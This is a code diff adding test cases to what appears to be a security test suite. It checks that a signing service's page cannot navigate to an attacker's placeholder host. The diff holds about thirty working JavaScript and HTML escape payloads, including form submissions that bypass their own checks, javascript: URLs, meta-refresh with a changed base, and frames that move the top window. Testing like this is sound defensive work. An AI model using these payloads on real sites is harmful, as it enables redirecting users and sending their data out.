@@ -1,6 +1,6 @@
 /** Leaving for a page of the attacker's, in all the ways a document can move. */
 import type { Area } from '../attack.ts'
-import { click } from './scripts.ts'
+import { byScript, click } from './scripts.ts'
 
 export const navigation: Area = {
   title: 'Leaving the signing service',
@@ -139,6 +139,111 @@ export const navigation: Area = {
         'await new Promise((r) => setTimeout(r, 200)); document.getElementById("f").contentDocument.getElementById("go").click()',
       told: 'unencrypted'
     },
+    ...byScript('unencrypted', [
+      ['leave by assigning', 'location.assign("http://{elsewhere}/")'],
+      ['leave by the document’s place', 'document.location = "http://{elsewhere}/"'],
+      ['leave by the top’s place', 'top.location.href = "http://{elsewhere}/"'],
+      ['leave by opening itself', 'open("http://{elsewhere}/", "_self")'],
+      ['leave by opening the top', 'open("http://{elsewhere}/", "_top")'],
+      ['leave by opening the window of its own name', 'window.name = "mine"; open("http://{elsewhere}/", "mine")'],
+      [
+        'leave by the navigation interface, leaving no trace',
+        'navigation.navigate("http://{elsewhere}/", { history: "replace" }).committed.catch(() => {})'
+      ],
+      ['leave by a script in an address', 'location = "javascript:void(location=\'http://{elsewhere}/\')"'],
+      ['leave by a text that runs', 'setTimeout("location = \'http://{elsewhere}/\'")'],
+      [
+        'leave after changing its own address',
+        'history.pushState({}, "", "/elsewhere"); location.replace("http://{elsewhere}/"); setTimeout(() => history.replaceState({}, "", "/attack"))'
+      ],
+      [
+        'leave when its place in the page changes',
+        'onhashchange = () => (location = "http://{elsewhere}/"); location.hash = "a"'
+      ],
+      [
+        'leave when a worker says so',
+        'new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => (location = "http://{elsewhere}/")'
+      ],
+      [
+        'leave when the page is changed',
+        'new MutationObserver(() => (location = "http://{elsewhere}/")).observe(document.body, { childList: true }); document.body.append("x")',
+        '<body>'
+      ],
+      [
+        'leave by a form that it sends itself',
+        'document.forms[0].requestSubmit()',
+        '<form action="http://{elsewhere}/"></form>'
+      ],
+      [
+        'leave by a form past its own checks',
+        'document.forms[0].submit()',
+        '<form action="http://{elsewhere}/" onsubmit="return false"><input name=a required></form>'
+      ],
+      [
+        'leave by a form that carries files',
+        'document.forms[0].submit()',
+        '<form action="http://{elsewhere}/" method=post enctype=multipart/form-data><input type=file name=a></form>'
+      ],
+      [
+        'leave by a form that carries plain text',
+        'document.forms[0].submit()',
+        '<form action="http://{elsewhere}/" method=post enctype=text/plain><input name=a value=b></form>'
+      ],
+      [
+        'leave by a button that belongs to a form from afar',
+        'document.getElementById("go").click()',
+        '<form id=f action="http://{elsewhere}/"></form><button id=go form=f>go</button>'
+      ],
+      [
+        'leave by a picture that sends a form',
+        'document.getElementById("go").click()',
+        '<form action="http://{elsewhere}/"><input id=go type=image alt=go></form>'
+      ],
+      [
+        'leave by a button that changes how its form goes',
+        'document.getElementById("go").click()',
+        '<form action="/embedded"><button id=go formmethod=post formaction="http://{elsewhere}/">go</button></form>'
+      ],
+      [
+        'leave by a link around a button',
+        'document.getElementById("go").click()',
+        '<a href="http://{elsewhere}/"><b id=go>go</b></a>'
+      ],
+      [
+        'leave by a link whose address moves',
+        'await new Promise((r) => setTimeout(r, 60)); document.getElementById("go").dispatchEvent(new MouseEvent("click", { bubbles: true }))',
+        '<svg><a id=go href="#"><set attributeName=href to="http://{elsewhere}/"/><text y=20>go</text></a></svg>'
+      ],
+      [
+        'leave by a link for the frame around it',
+        'document.getElementById("go").click()',
+        '<a id=go target=_parent href="http://{elsewhere}/">go</a>'
+      ],
+      [
+        'leave by a tag that refreshes by a changed base',
+        'document.head.insertAdjacentHTML("beforeend", \'<base href="http://{elsewhere}/"><meta http-equiv=refresh content="0;url=a">\')'
+      ],
+      [
+        'leave from a frame that it wrote itself',
+        'document.body.insertAdjacentHTML("beforeend", \'<iframe srcdoc="<script>top.location=`http://{elsewhere}/`</script>"></iframe>\')',
+        '<body>'
+      ],
+      [
+        'leave from a frame that it wrote itself, by opening the top',
+        'document.getElementById("f").contentWindow.open("http://{elsewhere}/", "_top")',
+        '<iframe id=f srcdoc="x"></iframe>'
+      ],
+      [
+        'leave from a frame by a form for the top',
+        'await new Promise((r) => setTimeout(r, 150)); document.getElementById("f").contentDocument.forms[0].submit()',
+        '<iframe id=f srcdoc="<form target=_top action=http://{elsewhere}/></form>"></iframe>'
+      ],
+      [
+        'leave from a shut frame that may move the top',
+        'document.body.insertAdjacentHTML("beforeend", \'<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location=`http://{elsewhere}/`</script>"></iframe>\')',
+        '<body>'
+      ]
+    ]),
     {
       name: 'leave while the page before it is still being left',
       sharesTurn: false,
